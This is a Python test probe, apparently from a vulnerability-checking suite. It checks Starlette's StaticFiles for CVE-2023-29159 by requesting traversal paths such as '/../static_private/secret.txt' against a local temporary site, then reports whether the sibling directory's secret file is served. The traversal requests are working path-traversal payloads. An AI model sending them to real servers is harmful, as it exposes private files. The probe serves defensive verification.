# /// vertice-probe
# id = "PYSEC-2023-83"
# aliases = ["CVE-2023-29159", "GHSA-v5gw-mw7f-84px"]
# package = "starlette"
# summary = "Static files compares paths letter by letter, so a sibling directory whose name starts the same is served."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:L/I:N/A:N" }]
# cwe = ["CWE-22"]
# kind = "traversal"
# symbols = ["starlette.staticfiles.StaticFiles", "fastapi.staticfiles.StaticFiles"]
#
# [[affected]]
# package = "starlette"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0.13.5" }, { fixed = "0.27.0" }] }]
#
# [cases]
# attack = "a file of static_private is served by the site of static"
# [cases.variants]
# mounted = "the index page of the sibling is served in HTML mode below a mount"
# [cases.controls]
# files = "files and directories of the site itself are served, others are not found"
#
# [test]
# vulnerable = "0.26.1"
# fixed = "0.27.0"
# ///
"""CVE-2023-29159: files of a sibling of the static directory."""

import asyncio
import json
import os
import sys
import tempfile
import warnings

warnings.simplefilter("ignore")


def site():
    base = tempfile.mkdtemp()
    for folder, name, text in (
        ("static", "index.html", "public index"),
        ("static", "style.css", "public style"),
        ("static_private", "secret.txt", "SECRET text"),
        ("static_private", "index.html", "SECRET index"),
    ):
        if not os.path.isdir(os.path.join(base, folder)):
            os.mkdir(os.path.join(base, folder))
        with open(os.path.join(base, folder, name), "w") as out:
            out.write(text)
    return os.path.join(base, "static")


def get(application, path):
    """(status, body) of a GET as a server hands it to the application."""
    sent = []

    async def receive():
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message):
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"shop.example")],
        "client": ("127.0.0.1", 1),
        "server": ("127.0.0.1", 80),
    }
    asyncio.run(application(scope, receive, send))
    return sent[0]["status"], b"".join(message.get("body", b"") for message in sent[1:])


def look(application, prefix, path):
    if get(application, prefix + "/style.css") != (200, b"public style"):
        return "error", "the site does not serve its own files"
    status, body = get(application, prefix + path)
    if b"SECRET" in body:
        return "exploited", "answered %d with a file of the sibling directory" % status
    if status != 404:
        return "error", "answered %d" % status
    return "blocked", "answered 404, the site serves its own files"


def application(html):
    """A whole application with the directory below /files; its error pages, too."""
    from starlette.applications import Starlette
    from starlette.routing import Mount
    from starlette.staticfiles import StaticFiles

    return Starlette(routes=[Mount("/files", StaticFiles(directory=site(), html=html))])


def attack():
    return look(application(html=False), "/files", "/../static_private/secret.txt")


def mounted():
    return look(application(html=True), "/files", "/./../static_private/")


def files():
    made = application(html=True)
    got = [get(made, "/files" + path) for path in ("/style.css", "/")] + [get(made, "/files/none")[0]]
    good = got == [(200, b"public style"), (200, b"public index"), 404]
    return ("works", "file and index served, unknown one not") if good else ("broken", repr(got))


CASES = {"attack": attack, "mounted": mounted, "files": files}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
